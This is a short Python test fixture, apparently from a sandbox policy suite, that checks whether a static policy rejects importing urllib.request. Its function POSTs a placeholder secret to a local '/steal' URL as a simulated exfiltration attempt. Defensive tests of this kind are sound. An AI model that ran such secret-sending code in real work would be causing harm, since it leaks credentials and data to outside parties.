"""Network exfiltration through `urllib.request`: POST the secret env var to a URL.

Layer: static policy (import of 'urllib.request' refused).
Expect: rejected reason="policy: line" reason="import of 'urllib.request' is not allowed"
"""

import urllib.request


def propose(ctx):
    if ctx["cycle"] >= 1:
        body = b"@@SECRET_FILE@@"
        urllib.request.urlopen("http://127.0.0.1:9/steal", data=body, timeout=0.1)
    return []
